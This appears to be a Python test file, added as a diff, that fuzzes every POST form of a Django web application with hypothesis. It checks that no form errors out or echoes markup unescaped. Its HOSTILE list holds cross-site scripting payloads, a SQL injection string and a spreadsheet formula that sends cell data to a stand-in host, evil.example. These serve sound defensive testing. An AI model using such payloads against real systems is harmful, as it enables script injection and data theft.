@@ -1,0 +1,158 @@
+"""Every form, fuzzed (issue 13, item 2; security.md goal 7).
+
+For each route of the route matrix (tests/core/test_routes.py) that takes a form by POST,
+the test signs in as the first role allowed to use it, reads the form's fields from the
+page, and posts values hypothesis makes of them: the page's own values and options
+(valid-looking) mixed with hostile ones (NUL, very long strings, huge numbers, HTML and
+script, spreadsheet formulas, odd dates). Every answer, and the page a redirect leads to:
+
+- is never a 5xx;
+- never carries an HTML payload unescaped;
+- passes the page checks of tests/pages.py (the test client runs them).
+
+Each post is undone afterwards (as in the route matrix). Bounded: EXAMPLES posts per form,
+derandomized under CI=true (tests/conftest.py).
+"""
+
+import datetime as dt
+from typing import Any
+
+import pytest
+from django.db import transaction
+from django.test import Client
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+from lxml import html
+
+from tests.core.test_routes import ROUTES, may_use, url_for
+from tests.personas import ROLES, World
+
+EXAMPLES = 10
+FORM_ROUTES = sorted(name for name, route in ROUTES.items() if route.post == 200)
+
+# Markup that must never come back as markup.
+MARKUP = [
+    "<script>alert('fuzz')</script>",
+    '"><img src=x onerror=alert(1)>',
+    "</textarea><svg onload=alert(1)>",
+    "<a href='javascript:alert(1)'>fuzz</a>",
+]
+HOSTILE = [
+    *MARKUP,
+    "\x00",
+    "NUL\x00inside",
+    "x" * 20_000,
+    "9" * 400,
+    "-1e309",
+    "99999999999999999999",
+    "-1",
+    "0",
+    "1.5",
+    "NaN",
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "+1+1",
+    "@SUM(1)",
+    "\t=1",
+    "\r=1",
+    "' OR 1=1 --",
+    "😀 ﷽ \u202e",
+    "2026-02-30",
+    "31",
+    "13",
+    "",
+    " ",
+]
+
+
+def form_fields(page: bytes, url: str) -> dict[str, list[str]]:
+    """The fields of the page's POST forms that post to `url` (not the header's sign-out
+    form): each field's name with the values the page offers (options, radios,
+    checkboxes, the current value)."""
+    tree = html.fromstring(page)
+    fields: dict[str, list[str]] = {}
+    for form in tree.forms:
+        if form.method.upper() != "POST" or (form.get("action") or url) != url:
+            continue
+        for element in form.inputs:
+            name = element.get("name")
+            if not name or element.get("type") in {"submit", "button", "file"}:
+                continue
+            fields.setdefault(name, [])
+            if element.tag == "select":
+                fields[name] += [option for option in element.value_options if option]
+            elif element.get("value") is not None:
+                fields[name].append(element.get("value"))
+            elif element.tag == "textarea" and element.text:
+                fields[name].append(element.text)
+    return fields
+
+
+def value_for(offered: list[str]) -> st.SearchStrategy[str]:
+    valid = [st.sampled_from(offered)] if offered else []
+    return st.one_of(
+        *valid,
+        st.sampled_from(HOSTILE),
+        # Control characters and non-characters aside: a form shown again with what was
+        # typed would hold them, which strict HTML parsing (the page checks) refuses.
+        st.text(st.characters(exclude_categories=("Cc", "Cs", "Co", "Cn")), max_size=40),
+        st.integers(min_value=-(10**30), max_value=10**30).map(str),
+    )
+
+
+def signed_in(name: str, world: World, client_for) -> tuple[Client, str]:
+    """A client of the first role allowed to use the route, and the route's URL."""
+    route = ROUTES[name]
+    for role in ROLES:
+        if may_use(route, world, role):
+            return client_for(world.persona(role)), url_for(name, world.related(role), world.tom)
+    raise AssertionError(f"{name}: no role may post it")
+
+
+def post_undone(client: Client, url: str, data: dict[str, Any]):
+    """Post, follow any redirect, and undo every change afterwards."""
+    with transaction.atomic():
+        response = client.post(url, data, follow=True)
+        transaction.set_rollback(True)
+    return response
+
+
+def assert_safe(response, data: dict[str, str], name: str) -> None:
+    assert response.status_code < 500, f"{name}: {response.status_code} for {data!r}"[:2000]
+    if "html" not in response.get("Content-Type", ""):
+        return
+    body = response.content.decode()
+    sent = {value for value in data.values() if value in MARKUP}
+    unescaped = [payload for payload in sent if payload in body]
+    assert not unescaped, f"{name}: unescaped {unescaped} in the answer"
+
+
+@pytest.mark.parametrize("name", FORM_ROUTES)
+def test_every_form_survives_fuzzed_input(name: str, world: World, client_for, today: dt.date):
+    client, url = signed_in(name, world, client_for)
+    with transaction.atomic():
+        page = client.get(url)
+        transaction.set_rollback(True)
+    assert page.status_code == 200, f"{name}: GET {url} gave {page.status_code}"
+    fields = form_fields(page.content, url)
+    assert fields, f"{name}: no form posting to {url} on the page"
+    values = st.fixed_dictionaries({field: value_for(offered) for field, offered in fields.items()})
+
+    @given(data=values)
+    @settings(
+        max_examples=EXAMPLES,
+        deadline=None,
+        # the world is the test's, shared by the examples on purpose (each post is undone)
+        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
+    )
+    def fuzzed(data: dict[str, str]) -> None:
+        assert_safe(post_undone(client, url, data), data, name)
+
+    fuzzed()
+
+
+def test_the_fuzzed_forms_are_the_matrix_forms():
+    """Every route declaring an empty POST's 200 (a form shown again with its errors)."""
+    assert "casework:plan_edit" in FORM_ROUTES
+    assert "feedback:give" in FORM_ROUTES
+    assert "core:forgotten_password" in FORM_ROUTES
+    assert len(FORM_ROUTES) >= 25
